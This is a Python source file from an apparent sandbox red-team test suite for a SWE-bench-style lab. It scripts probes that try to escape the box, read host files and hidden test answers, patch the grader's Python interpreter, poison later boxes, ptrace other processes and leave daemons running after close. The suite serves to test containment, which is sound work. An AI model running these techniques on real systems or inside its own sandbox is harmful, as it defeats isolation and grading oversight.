"""Attacks from within a box on files and processes of the host, and on other boxes."""

from __future__ import annotations

from typing import TYPE_CHECKING

from swebench_lab.testing.redteam.attack import Attack

if TYPE_CHECKING:
    from swebench_lab.sandbox.contract import Sandbox
    from swebench_lab.testing.redteam.ground import Ground

_PIDS = "it can be told whether a process number is in use: this tier has no pid namespace"


def _host_file_made(ground: Ground, _box: Sandbox) -> str:
    """Say whether a marked file appeared where only the host may write."""
    from pathlib import Path

    for folder in (*ground.clues["LAB_LAYERS"].split(), ground.clues["LAB_PREFIX"], "/usr/bin", "/usr/lib", "/etc"):
        for path in (
            Path(folder, ground.mark),
            Path(folder, "opt/venv", ground.mark),
            Path(folder, "lib", ground.mark),
        ):
            if path.exists():
                path.unlink()
                return f"{path} was written on the host"
    return ""


def _next_interpreter_differs(ground: Ground, _box: Sandbox) -> str:
    """Say whether what one box made of its interpreter runs in the next one."""
    with ground.open() as other:
        output = other.run("python -c 'import json, pytest; print(json.dumps(1))'; pytest --version").output
    return f"another box's interpreter says {output.strip()[-200:]!r}" if "LAB-WAS-HERE" in output else ""


def _next_box_differs(ground: Ground, _box: Sandbox) -> str:
    """Say whether what one box changed shows in the next one."""
    with ground.open() as other:
        paths = other.run(
            "grep -rl LAB-WAS-HERE /testbed /opt/venv/bin /tmp /root /etc 2>/dev/null | head -3"
        ).output.strip()
    return f"another box sees {paths}" if paths else ""


FILES = (
    Attack(
        "read by path",
        "host files",
        "Read files of the host by their names.",
        program="""
            cat $LAB_FILES
            for f in $LAB_FILES; do
                cat /../../../..$f /proc/self/root$f
            done
            env
        """,
    ),
    Attack(
        "search everything",
        "host files",
        "Find any file of the host that carries the canaries' name.",
        program="""
            find / -name "*lab-canary-$LAB_MARK*" -not -path '/proc/*' -exec cat {} + 2>/dev/null
            ls -a / /tmp /root /home /run /var /mnt /srv 2>/dev/null | grep "lab-canary-$LAB_MARK" && echo GAINED names
            true
        """,
        timeout=60,
    ),
    Attack(
        "write by path",
        "host files",
        "Write, append to, cut, replace and remove files of the host.",
        program="""
            for f in $LAB_FILES; do
                echo x >>$f
                echo x >$f
                : >$f
                truncate -s 0 $f
                mv /etc/hostname $f
                cp /etc/hostname $f
                rm -f $f
            done
            true
        """,
    ),
    Attack(
        "change modes, owners and times",
        "host files",
        "Change what the host keeps about its files, by path alone.",
        program="""
            for f in $LAB_FILES; do
                chmod 777 $f
                chmod 0 $f
                chown 12345 $f
                touch -c -d 2001-01-01 $f
            done
        """,
        script="""
            for f in os.environ['LAB_FILES'].split():
                attempt(f'an attribute of {f}', lambda: os.setxattr(f, 'user.lab', b'1') or 1)
                attempt(f'a device at {f}', lambda: os.mknod(f + 'x', 0o60600, os.makedev(7, 0)))
        """,
    ),
    Attack(
        "link files into reach",
        "host files",
        "Link or rename files of the host to names inside the box.",
        program="""
            for f in $LAB_FILES; do
                ln $f loot-hard && cat loot-hard
                ln -s $f loot-soft
                cat loot-soft
                mv $f loot-moved && cat loot-moved
                rm -f loot-*
            done
            true
        """,
    ),
    Attack(
        "through /proc/*/root",
        "host files",
        "Follow the root, directory and open files of every process to the host.",
        script="""
            known = {'/proc/1', '/proc/' + os.environ['LAB_PID'], '/proc/' + os.environ['LAB_CLIENT']}
            for entry in {*glob.glob('/proc/[0-9]*'), *known}:
                for link in ('root', 'cwd'):
                    for f in os.environ['LAB_FILES'].split():
                        show(f'{entry}/{link}{f}')
                    attempt(f'{entry}/{link}', lambda: [n for n in os.listdir(f'{entry}/{link}') if marked in n] or -1)
                for fd in glob.glob(entry + '/fd/*'):
                    attempt(fd, lambda: [n for n in os.listdir(fd) if marked in n] or -1)
                    attempt(fd, lambda: [n for n in os.listdir(fd + '/..') if marked in n] or -1)
        """,
    ),
    Attack(
        "inherited descriptors",
        "host files",
        "Use a descriptor that was left open across the start of a command.",
        script="""
            for fd in range(3, 1024):
                try:
                    os.fstat(fd)
                except OSError:
                    continue
                print('GAINED descriptor', fd, os.readlink(f'/proc/self/fd/{fd}'))
        """,
        then=lambda _, box: _session_descriptors(box),
    ),
    Attack(
        "chroot twice",
        "host files",
        "Leave by changing the root below an open directory and walking up.",
        script="""
            import tempfile
            hole = tempfile.mkdtemp()
            here = os.open('/', os.O_PATH)
            attempt('chroot', lambda: os.chroot(hole))
            try:
                os.fchdir(here)
            except OSError:
                pass
            for _ in range(64):
                attempt('', lambda: os.chdir('..') or -1)
            for f in os.environ['LAB_FILES'].split():
                show(f.lstrip('/'))
        """,
    ),
    Attack(
        "open by handle",
        "host files",
        "Open files of the host by guessing their handles.",
        script="""
            handle = struct.pack('=IiQ', 8, 1, 2)
            buffer = ctypes.create_string_buffer(handle + bytes(120))
            for place in ('/', '/usr', '/etc/hostname', '/dev/null'):
                fd = os.open(place, os.O_PATH)
                refused(f'open_by_handle_at on {place}', {'x86_64': 304}.get(platform.machine(), 265), fd, buffer, 0)
        """,
    ),
    Attack(
        "the answers",
        "host files",
        "Read the hidden tests where the host keeps them.",
        program="""
            cat -r $LAB_ANSWERS 2>/dev/null
            find $LAB_ANSWERS $LAB_CACHE -type f -exec cat {} + 2>/dev/null | grep -a hidden-answer
            grep -rhoa 'hidden-answer[-0-9a-f]*' /testbed /opt /.lab /tmp /root 2>/dev/null
        """,
        timeout=60,
    ),
    Attack(
        "the answers in git",
        "host files",
        "Find the hidden tests, or the code before the bug, in the repository's objects.",
        program=r"""
            for g in /testbed/.git /.lab/git .git; do
                [ -d $g ] || continue
                export GIT_DIR=$g
                git fsck --lost-found 2>/dev/null
                git log --all -p
                git reflog
                git stash list
                git cat-file --batch-all-objects --batch
                unset GIT_DIR
            done | grep -a 'hidden-answer\|each + 1' | sed 's/.*each + 1/GAINED the code before the bug/'
            true
        """,
    ),
    Attack(
        "write into the host's programs",
        "host files",
        "Plant a file among the host's programs, libraries and interpreter.",
        program="""
            for d in /usr/bin /usr/lib $LAB_PREFIX $LAB_PREFIX/lib $LAB_LAYERS; do
                echo x >$d/$LAB_MARK
                cp /bin/true $d/$LAB_MARK
                mkdir -p $d
                mount -o remount,rw,bind $d
                echo x >$d/$LAB_MARK
            done
            true
        """,
        then=_host_file_made,
    ),
    Attack(
        "poison the next box",
        "host files",
        "Change repository, venv, interpreter, home and sealed git for boxes to come.",
        program="""
            files='/testbed/setup.cfg /opt/venv/bin/pytest /opt/venv/bin/LAB /tmp/LAB /root/.bashrc /root/.gitconfig'
            for f in $files /etc/profile /etc/ld.so.preload /.lab/git/config /.lab/git/HEAD; do
                echo '#LAB-WAS-HERE' >>$f
            done
            chmod -R u+w /.lab
            rm -rf /.lab/git/objects
            true
        """,
        then=_next_box_differs,
    ),
    Attack(
        "a patched interpreter",
        "host files",
        "Have the boxes to come, and so the grader, start with a changed Python: its program, its library, its start-up.",
        program="""
            v=$VIRTUAL_ENV
            for d in $v/lib/python*/site-packages; do
                echo 'print("LAB-WAS-HERE")' >$d/sitecustomize.py
                echo 'import sys; sys.stdout.write("LAB-WAS-HERE")' >$d/lab.pth
                echo 'print("LAB-WAS-HERE")' >>$d/_pytest/__init__.py
            done
            for p in python python3 pytest; do
                rm -f $v/bin/$p
                printf '#!/bin/sh\necho LAB-WAS-HERE\n' >$v/bin/$p
                chmod +x $v/bin/$p
            done
            echo 'home = /tmp' >>$v/pyvenv.cfg
            python | grep -q LAB-WAS-HERE || echo GAINED nothing: the attack itself is broken
        """,
        then=_next_interpreter_differs,
    ),
)


def _session_descriptors(box: Sandbox) -> str:
    """Look at what a program that a session starts has open."""
    with box.session() as shell:
        names = shell.run(_OPEN).output.splitlines()
    return f"descriptors in a session's program: {', '.join(names)}" if names else ""


_OPEN = """python3 -c "
import os
for fd in range(3, 1024):
    try:
        os.fstat(fd)
        print(fd)
    except OSError:
        pass
"
"""


PROCESSES = (
    Attack(
        "see processes of the host",
        "processes",
        "Find the host's processes, their arguments and their variables.",
        script="""
            known = {'/proc/' + os.environ['LAB_PID'], '/proc/' + os.environ['LAB_CLIENT']}
            for entry in {*glob.glob('/proc/[0-9]*'), *known}:
                for name in ('cmdline', 'environ', 'maps', 'stat'):
                    try:
                        data = open(f'{entry}/{name}', 'rb').read()
                    except OSError:
                        continue
                    sys.stdout.buffer.write(data)
                    if marked.encode() in data and name == 'cmdline':
                        print('GAINED the arguments of', entry)
            attempt('a process by its number', lambda: os.kill(int(os.environ['LAB_PID']), 0))
            attempt('the status of a process', lambda: os.stat('/proc/' + os.environ['LAB_PID']).st_uid)
        """,
        gaps={"landlock": _PIDS},
    ),
    Attack(
        "signal processes of the host",
        "processes",
        "End or stop processes of the host by number, group, and all at once.",
        script="""
            target = int(os.environ['LAB_PID'])
            for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                for pid in (target, -target, int(os.environ['LAB_CLIENT']) if number == 0 else target):
                    attempt(f'signal {number} to {pid}', os.kill, pid, number)
            attempt('a handle on a process of the host', lambda: os.pidfd_open(target))
            if os.path.exists(f'/proc/{target}'):
                number = {'x86_64': 129}.get(platform.machine(), 138)
                refused('rt_sigqueueinfo', number, target, 9, ctypes.create_string_buffer(128))
        """,
        gaps={"landlock": "a handle on a process of the host can be opened; nothing can be sent through it"},
    ),
    Attack(
        "signal everybody",
        "processes",
        "Send a signal to every process there is.",
        program="""
            kill -STOP -1
            kill -CONT -1
            kill -KILL -1
            true
        """,
    ),
    Attack(
        "trace and read memory",
        "processes",
        "Attach to other processes, the box's first among them, and read their memory.",
        script="""
            for pid in (int(os.environ['LAB_PID']), 1, os.getppid()):
                attempt(f'ptrace of {pid}', lambda: libc.ptrace(16, pid, None, None))
                attempt(f'ptrace seize of {pid}', lambda: libc.ptrace(0x4206, pid, None, None))
                local = ctypes.create_string_buffer(8)
                iov = struct.pack('QQ', ctypes.addressof(local), 8)
                attempt(f'memory of {pid}', lambda: libc.process_vm_readv(pid, iov, 1, iov, 1, 0))
                if pid != os.getppid():
                    attempt(f'/proc/{pid}/mem', lambda: open(f'/proc/{pid}/mem', 'rb+').fileno())
                    attempt(f'/proc/{pid}/environ', lambda: open(f'/proc/{pid}/environ', 'rb').read() or -1)
            attempt('ptrace of itself', lambda: libc.ptrace(0, 0, None, None))
        """,
    ),
    Attack(
        "steal descriptors",
        "processes",
        "Take open files out of other processes.",
        script="""
            for pid in (1, int(os.environ['LAB_PID'])):
                try:
                    handle = os.pidfd_open(pid)
                except OSError:
                    continue
                for fd in range(64):
                    attempt(f'descriptor {fd} of {pid}', lambda: libc.syscall(438, handle, fd, 0))
                for fd in glob.glob(f'/proc/{pid}/fd/*'):
                    attempt(fd, lambda: os.open(fd, os.O_RDWR))
        """,
    ),
    Attack(
        "bound and slow processes of the host",
        "processes",
        "Change limits, priority and processors of a process of the host.",
        script="""
            import resource
            pid = int(os.environ['LAB_PID'])
            attempt('its limits', lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)))
            attempt('its limits, to read', lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE))
            attempt('its processors', lambda: os.sched_setaffinity(pid, {0}))
            attempt('its priority', lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
            # 0 is the caller's own user: where no namespace stands between, that is every process of the user.
            for whose, number in ((os.PRIO_USER, 0), (os.PRIO_USER, os.getuid()), (os.PRIO_PGRP, os.getpgid(0))):
                try:
                    os.setpriority(whose, number, os.getpriority(os.PRIO_PROCESS, 0) + 1)
                except OSError:
                    pass
            attempt('its scheduler', lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))
        """,
    ),
    Attack(
        "end the box's own keeper",
        "processes",
        "End the box's first process in the hope that its processes outlive it.",
        program="""
            LAB_TAG=outlive-$LAB_MARK setsid nohup sleep 86399 >/dev/null 2>&1 & sleep 0.2
            kill -9 1
            kill -9 $PPID
            sleep 0.2
            true
        """,
        then=lambda ground, box: _left_behind(ground, box),
    ),
    Attack(
        "stay behind",
        "processes",
        "Leave a daemon that outlives timeout and close.",
        program="""
            for i in 1 2 3; do
                (LAB_TAG=outlive-$LAB_MARK setsid setsid nohup sleep 86399 >/dev/null 2>&1 & )
            done
            export LAB_TAG=outlive-$LAB_MARK
            (trap '' TERM HUP INT; setsid sh -c 'while :; do sleep 86399; done' >/dev/null 2>&1 &)
            sleep 60
        """,
        timeout=1.0,
        then=lambda ground, box: _left_behind(ground, box),
    ),
)


def _left_behind(ground: Ground, box: Sandbox) -> str:
    """Close the box and look for its processes from outside."""
    import time

    box.close()
    deadline = time.monotonic() + 5.0
    while processes := tagged(f"LAB_TAG=outlive-{ground.mark}"):
        if time.monotonic() > deadline:
            return f"{len(processes)} processes live on after the box was closed"
        time.sleep(0.05)
    return ""


def tagged(variable: str) -> list[int]:
    """Return the processes of this machine that have a variable."""
    from pathlib import Path

    pids = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and variable.encode() in (entry / "environ").read_bytes().split(b"\0"):
                pids.append(int(entry.name))
        except OSError:
            continue
    return pids


NEIGHBOURS = (
    Attack(
        "files of another box",
        "other sandboxes",
        "Read what another box wrote, wherever that is kept.",
        program="""
            n=lab-canary-$LAB_MARK
            cat ${TMPDIR:-/tmp}/$n /tmp/$n $n /dev/shm/* 2>/dev/null
            find / -name "lab-canary-$LAB_MARK" -not -path '/proc/*' -exec cat {} + 2>/dev/null
            ls /sys/box /sys/root 2>/dev/null
            true
        """,
    ),
    Attack(
        "processes of another box",
        "other sandboxes",
        "Find and end a process of another box.",
        program="""
            grep -la LAB_CANARY /proc/[0-9]*/environ
            pkill -9 -f 86400
            for p in $(seq 2 200); do
                grep -qa LAB_CANARY /proc/$p/environ 2>/dev/null && echo GAINED process $p
            done
            true
        """,
    ),
    Attack(
        "shared memory of the host",
        "other sandboxes",
        "Read a System V segment of the host.",
        script="""
            libc.shmat.restype = ctypes.c_void_p
            for number in {int(os.environ['LAB_SHARED']), *range(64)}:
                address = libc.shmat(number, None, 0o10000)
                if address not in (None, 2**64 - 1):
                    sys.stdout.buffer.write(ctypes.string_at(address, 128))
            show('/proc/sysvipc/shm')
            for number in {int(os.environ['LAB_SHARED'])}:
                attempt('removing a segment of the host', lambda: libc.shmctl(number, 0, None))
        """,
    ),
    Attack(
        "message queues and keys",
        "other sandboxes",
        "Meet others in message queues and kernel keyrings.",
        script="""
            numbers = {'x86_64': (248, 249, 250)}.get(platform.machine(), (217, 218, 219))
            for name, number in zip(('add_key', 'request_key', 'keyctl'), numbers):
                refused(name, number, 0, 0, 0, 0, 0)
            attempt('queues of the host', lambda: os.listdir('/dev/mqueue') or -1)
        """,
    ),
)
